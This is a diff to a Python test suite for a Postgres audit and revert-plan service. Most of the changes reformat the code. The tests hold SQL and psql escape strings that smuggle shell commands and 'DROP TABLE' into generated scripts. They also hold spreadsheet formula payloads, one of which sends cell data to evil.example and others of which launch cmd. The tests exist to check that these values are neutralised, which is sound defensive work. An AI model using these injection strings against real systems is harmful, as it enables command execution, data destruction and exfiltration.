@@ -13,6 +13,8 @@ import io
 import json
 import subprocess
 import uuid
+from collections.abc import Callable
+from dataclasses import dataclass
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
 from urllib.parse import quote, unquote
@@ -37,8 +39,10 @@ def escape(marker: Path, field: str) -> str:
     """A value that, pasted raw into a script, leaves a comment, a literal, an identifier or a
     dollar quote and runs a psql shell command creating ``marker``."""
     touch = f"\\! touch {marker.name}"  # relative: psql runs in the marker's folder
-    return (f"{field}\n{touch}\n\r{touch}\r*/ $$ $revert$ '; DROP TABLE canary; -- \" "
-            f"\u2028{touch}\u2029 end")  # fmt: skip
+    return (
+        f"{field}\n{touch}\n\r{touch}\r*/ $$ $revert$ '; DROP TABLE canary; -- \" "
+        f"\u2028{touch}\u2029 end"
+    )
 
 
 def name(marker: Path, field: str) -> str:
@@ -59,7 +63,7 @@ def hostile(servers, pg_database, es, tmp_path):
         f"ALTER TABLE {_id(table)} REPLICA IDENTITY FULL;"
         f"CREATE TABLE slashed (id text PRIMARY KEY, v text);"
         f"ALTER TABLE slashed REPLICA IDENTITY FULL;"
-    )  # fmt: skip
+    )
     policy = SourcePolicy.model_validate(
         {
             "source": "hostile",
@@ -74,8 +78,10 @@ def hostile(servers, pg_database, es, tmp_path):
     rows = [escape(marker, f"row{i}") for i in range(3)]
     with psycopg.connect(pg_database, autocommit=True) as conn:
         for row in rows[:2]:
-            conn.execute(f"INSERT INTO {_id(table)} VALUES (%s, %s, 's', 'd', 'p')",
-                         (row, escape(marker, "value")))  # fmt: skip
+            conn.execute(
+                f"INSERT INTO {_id(table)} VALUES (%s, %s, 's', 'd', 'p')",
+                (row, escape(marker, "value")),
+            )
         conn.execute("INSERT INTO slashed VALUES ('a/b', 'x'), ('a/b/history', 'y')")
     with psycopg.connect(servers.pg_url, autocommit=True) as state:
         platform_db.install(state, Settings().resources_dir / "sql")
@@ -96,23 +102,27 @@ def hostile(servers, pg_database, es, tmp_path):
                 note,
                 secret,
                 rows,
-                lambda: capture_enrich_index(source, state, es, grace=timedelta(0)),
+                sync=lambda: capture_enrich_index(source, state, es, grace=timedelta(0)),
             )
     for index in es.indices.get(index=f"audit-{env}-*", expand_wildcards="all"):
         es.indices.delete(index=index)
     es.indices.delete_index_template(name=f"audit-{env}")
 
 
+@dataclass
 class Hostile:
-    def __init__(self, url, api, key, marker, table, key_col, note, secret, rows, sync):
-        self.url, self.api, self.key, self.marker, self.table = url, api, key, marker, table
-        self.key_col, self.note, self.secret, self.rows, self.sync = (
-            key_col,
-            note,
-            secret,
-            rows,
-            sync,
-        )
+    """The captured source, the API over it, and the hostile names its table has."""
+
+    url: str
+    api: TestClient
+    key: str
+    marker: Path
+    table: str
+    key_col: str
+    note: str
+    secret: str
+    rows: list[str]
+    sync: Callable[[], int]
 
     def in_context(self, context: dict, *statements: tuple[str, tuple]) -> None:
         with psycopg.connect(self.url) as conn:
@@ -125,8 +135,9 @@ class Hostile:
             return conn.execute(f"SELECT * FROM {_id(self.table)} ORDER BY 1").fetchall()
 
     def sign_in(self) -> None:
-        reply = self.api.post("/ui/login", data={"key": self.key, "next": "/ui/"},
-                              follow_redirects=False)  # fmt: skip
+        reply = self.api.post(
+            "/ui/login", data={"key": self.key, "next": "/ui/"}, follow_redirects=False
+        )
         assert reply.status_code == 303, reply.text
 
 
@@ -138,8 +149,13 @@ def psql(url: str, script: str, tmp_path: Path) -> subprocess.CompletedProcess:
     """``psql -f`` as an operator runs a plan: the shell commands it would run are real."""
     path = tmp_path / "plan.sql"
     path.write_text(script)
-    return subprocess.run([PSQL, "-X", "-v", "ON_ERROR_STOP=1", "-d", url, "-f", str(path)],
-                          capture_output=True, text=True, timeout=60, cwd=tmp_path)  # fmt: skip
+    return subprocess.run(
+        [PSQL, "-X", "-v", "ON_ERROR_STOP=1", "-d", url, "-f", str(path)],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        cwd=tmp_path,
+    )
 
 
 #: What psql prints for a plan that ran as written: the transaction, its settings, the block.
@@ -153,20 +169,25 @@ def _break_the_trail(h: Hostile) -> dict:
     m = h.marker
     context = {
         "actor": {"type": "user", "id": escape(m, "actor"), "name": escape(m, "name")},
-        "service": escape(m, "service"), "request_id": escape(m, "request"),
+        "service": escape(m, "service"),
+        "request_id": escape(m, "request"),
         "job": {"name": escape(m, "job"), "run_id": escape(m, "run")},
         "reason": escape(m, "reason"),
-    }  # fmt: skip
+    }
     t, k, note, secret = _id(h.table), _id(h.key_col), _id(h.note), _id(h.secret)
     h.in_context(
         context,
-        (f"UPDATE {t} SET {note} = %s, {secret} = 's2' WHERE {k} = %s",
-         (escape(m, "new value $revert_1$"), h.rows[0])),
+        (
+            f"UPDATE {t} SET {note} = %s, {secret} = 's2' WHERE {k} = %s",
+            (escape(m, "new value $revert_1$"), h.rows[0]),
+        ),
         (f"DELETE FROM {t} WHERE {k} = %s", (h.rows[1],)),
         (f"INSERT INTO {t} ({k}, {note}) VALUES (%s, %s)", (h.rows[2], escape(m, "ins"))),
-    )  # fmt: skip
-    h.in_context({"actor": {"type": "user", "id": "later"}},
-                 (f"UPDATE {t} SET plain = 'later' WHERE {k} = %s", (h.rows[0],)))  # fmt: skip
+    )
+    h.in_context(
+        {"actor": {"type": "user", "id": "later"}},
+        (f"UPDATE {t} SET plain = 'later' WHERE {k} = %s", (h.rows[0],)),
+    )
     h.sync()
     return context
 
@@ -226,20 +247,38 @@ def test_a_plan_of_ids_holding_nul_and_line_breaks_is_one_script_psql_runs_as_wr
     with psycopg.connect(pg_database, autocommit=True) as conn:
         conn.execute("CREATE TABLE t (id int PRIMARY KEY, v text); INSERT INTO t VALUES (1, 'b')")
     hostile_id = "a\x00" + escape(marker, "id") + "\x85\u2028\u202e\ufeff"
-    record = AuditRecord.model_validate({
-        "id": f"dev:shop:{escape(marker, 'rec')}:0", "@timestamp": datetime.now(UTC),
-        "env": "dev", "source": {"service": "shop", "database": "shop"},
-        "table": {"schema": "public", "name": "t"}, "operation": "update",
-        "event": {"action": "update", "type": ["change"]}, "object_id": "1",
-        "changed_columns": ["v"], "before": {"id": "1", "v": "a"}, "after": {"id": "1", "v": "b"},
-        "values_text": "", "context": None, "user": {}, "service": {}, "trace": {}, "client": {},
-        "attribution": {"status": "unattributed"},
-        "transaction": {"xid": 1, "commit_lsn": "0/1", "lsn": 1, "change_index": 0},
-        "row": {"key": ["id"], "types": {"id": "integer", "v": "text"}},
-        "policy_version": "1", "ingested_at": datetime.now(UTC),
-    })  # fmt: skip
-    plan = plan_revert({"request_id": hostile_id, "actor": hostile_id}, [record], {},
-                       generated_at=datetime.now(UTC))  # fmt: skip
+    record = AuditRecord.model_validate(
+        {
+            "id": f"dev:shop:{escape(marker, 'rec')}:0",
+            "@timestamp": datetime.now(UTC),
+            "env": "dev",
+            "source": {"service": "shop", "database": "shop"},
+            "table": {"schema": "public", "name": "t"},
+            "operation": "update",
+            "event": {"action": "update", "type": ["change"]},
+            "object_id": "1",
+            "changed_columns": ["v"],
+            "before": {"id": "1", "v": "a"},
+            "after": {"id": "1", "v": "b"},
+            "values_text": "",
+            "context": None,
+            "user": {},
+            "service": {},
+            "trace": {},
+            "client": {},
+            "attribution": {"status": "unattributed"},
+            "transaction": {"xid": 1, "commit_lsn": "0/1", "lsn": 1, "change_index": 0},
+            "row": {"key": ["id"], "types": {"id": "integer", "v": "text"}},
+            "policy_version": "1",
+            "ingested_at": datetime.now(UTC),
+        }
+    )
+    plan = plan_revert(
+        {"request_id": hostile_id, "actor": hostile_id},
+        [record],
+        {},
+        generated_at=datetime.now(UTC),
+    )
     script = plan.sql_file()
     assert "\x00" not in script
     comments = [line for line in script.split("\n") if line.lstrip().startswith("--")]
@@ -257,8 +296,10 @@ def test_a_plan_of_ids_holding_nul_and_line_breaks_is_one_script_psql_runs_as_wr
 
 def test_ids_with_a_slash_open_in_the_api_and_the_explorer(hostile):
     h = hostile
-    h.in_context({"actor": {"type": "user", "id": "team/alice"}, "request_id": "req/1"},
-                 ("UPDATE slashed SET v = 'changed' WHERE id = 'a/b'", ()))  # fmt: skip
+    h.in_context(
+        {"actor": {"type": "user", "id": "team/alice"}, "request_id": "req/1"},
+        ("UPDATE slashed SET v = 'changed' WHERE id = 'a/b'", ()),
+    )
     h.sync()
     api = h.api
     for object_id, value in (("a/b", "changed"), ("a/b/history", "y")):
@@ -269,9 +310,7 @@ def test_ids_with_a_slash_open_in_the_api_and_the_explorer(hostile):
         assert state.status_code == 200 and state.json()["row"]["v"] == value, state.text
     request = api.get(f"/v1/requests/{quote('req/1', safe='')}")
     assert request.status_code == 200, request.text
-    assert [c["object_id"] for t in request.json()["transactions"] for c in t["changes"]] == [
-        "a/b"
-    ]  # fmt: skip
+    assert [c["object_id"] for t in request.json()["transactions"] for c in t["changes"]] == ["a/b"]
     plan = api.get("/v1/requests/req/1/revert")  # unencoded works too
     assert plan.status_code == 200 and plan.json()["of"] == {"request_id": "req/1"}
     activity = api.get("/v1/actors/team%2Falice/activity")
@@ -286,8 +325,11 @@ def test_ids_with_a_slash_open_in_the_api_and_the_explorer(hostile):
     record_page = api.get(f"/ui/requests/{quote('req/1', safe='')}")
     assert record_page.status_code == 200, record_page.text
     # The page's own links lead to the object, the actor and the plan's download.
-    links = {"/ui/objects/hostile/public.slashed/a%2Fb", "/ui/actors/team%2Falice",
-             "/ui/requests/req%2F1/revert.sql"}  # fmt: skip
+    links = {
+        "/ui/objects/hostile/public.slashed/a%2Fb",
+        "/ui/actors/team%2Falice",
+        "/ui/requests/req%2F1/revert.sql",
+    }
     for link in links:
         assert f'href="{link}"' in record_page.text, link
         opened = api.get(link)
@@ -299,15 +341,24 @@ def test_ids_with_a_slash_open_in_the_api_and_the_explorer(hostile):
 
 
 NUL_PATHS = [
-    "/v1/requests/a%00b", "/v1/requests/a%00b/revert", "/v1/jobs/a%00b/runs/1",
-    "/v1/jobs/j/runs/a%00b/revert", "/v1/actors/a%00b/activity",
+    "/v1/requests/a%00b",
+    "/v1/requests/a%00b/revert",
+    "/v1/jobs/a%00b/runs/1",
+    "/v1/jobs/j/runs/a%00b/revert",
+    "/v1/actors/a%00b/activity",
     "/v1/actors/a%00b/revert?since=2026-01-01T00:00:00Z",
     "/v1/objects/hostile/public.slashed/a%00b/history",
-    "/v1/objects/hostile/public.slashed/a%00b/state", "/v1/events?request_id=a%00b",
-    "/v1/events?actor_id=a%00b", "/v1/export?object_id=a%00b", "/v1/events?query=actor:a%00b",
-    "/ui/requests/a%00b", "/ui/requests/a%00b/revert.sql", "/ui/actors/a%00b",
-    "/ui/objects/hostile/public.slashed/a%00b", "/ui/search?q=actor:a%00b",
-]  # fmt: skip
+    "/v1/objects/hostile/public.slashed/a%00b/state",
+    "/v1/events?request_id=a%00b",
+    "/v1/events?actor_id=a%00b",
+    "/v1/export?object_id=a%00b",
+    "/v1/events?query=actor:a%00b",
+    "/ui/requests/a%00b",
+    "/ui/requests/a%00b/revert.sql",
+    "/ui/actors/a%00b",
+    "/ui/objects/hostile/public.slashed/a%00b",
+    "/ui/search?q=actor:a%00b",
+]
 
 
 def test_a_nul_in_an_id_is_a_422_that_says_so(hostile):
@@ -320,8 +371,10 @@ def test_a_nul_in_an_id_is_a_422_that_says_so(hostile):
 
 def test_ids_with_line_breaks_reach_their_routes(hostile):
     h = hostile
-    h.in_context({"actor": {"type": "user", "id": "a\nb"}, "request_id": "r\r\n1"},
-                 ("UPDATE slashed SET v = 'changed' WHERE id = 'a/b'", ()))  # fmt: skip
+    h.in_context(
+        {"actor": {"type": "user", "id": "a\nb"}, "request_id": "r\r\n1"},
+        ("UPDATE slashed SET v = 'changed' WHERE id = 'a/b'", ()),
+    )
     h.sync()
     assert h.api.get("/v1/requests/r%0D%0A1").json()["transactions"]
     assert h.api.get("/v1/requests/r%0D%0A1/revert").json()["changes"] == 1
@@ -336,14 +389,18 @@ NAMES = ['say "hi"', "日本語/ü", "line\nbreak\r\n", "tab\there; x=y", "C:\\e
 def test_a_download_is_named_by_rfc_6266_whatever_the_id_holds(hostile):
     h = hostile
     for request_id in NAMES:
-        h.in_context({"actor": {"type": "user", "id": "n"}, "request_id": request_id},
-                     ("UPDATE slashed SET v = %s WHERE id = 'a/b'", (request_id,)))  # fmt: skip
+        h.in_context(
+            {"actor": {"type": "user", "id": "n"}, "request_id": request_id},
+            ("UPDATE slashed SET v = %s WHERE id = 'a/b'", (request_id,)),
+        )
     h.sync()
     h.sign_in()
     for request_id in NAMES:
         segment = quote(request_id, safe="")
-        for path in (f"/v1/requests/{segment}/revert?format=sql",
-                     f"/ui/requests/{segment}/revert.sql"):  # fmt: skip
+        for path in (
+            f"/v1/requests/{segment}/revert?format=sql",
+            f"/ui/requests/{segment}/revert.sql",
+        ):
             reply = h.api.get(path)
             assert reply.status_code == 200, (path, reply.text)
             value = reply.headers["content-disposition"]
@@ -361,15 +418,23 @@ def test_a_download_is_named_by_rfc_6266_whatever_the_id_holds(hostile):
 
 # --- CSV ---------------------------------------------------------------------------------------
 
-FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_csv_cells_that_a_spreadsheet_would_run_are_text_and_ndjson_stays_exact(hostile):
     h = hostile
     for number, formula in enumerate(FORMULAS):
-        context = {"actor": {"type": "user", "id": formula, "name": formula},
-                   "request_id": f"{formula}{number}"}  # fmt: skip
+        context = {
+            "actor": {"type": "user", "id": formula, "name": formula},
+            "request_id": f"{formula}{number}",
+        }
         h.in_context(context, ("UPDATE slashed SET v = %s WHERE id = 'a/b'", (formula,)))
     h.sync()
     text = h.api.get(
@@ -390,8 +455,9 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_text_and_ndjson_stays_exact(
     ).text
     found = [json.loads(line) for line in exact.splitlines()]
     assert [r["context"]["actor"]["id"] for r in found] == FORMULAS
-    assert [r["context"]["request_id"] for r in found] == [f"{f}{n}" for n, f in
-                                                         enumerate(FORMULAS)]  # fmt: skip
+    assert [r["context"]["request_id"] for r in found] == [
+        f"{f}{n}" for n, f in enumerate(FORMULAS)
+    ]
 
 
 # --- times out of range ------------------------------------------------------------------------
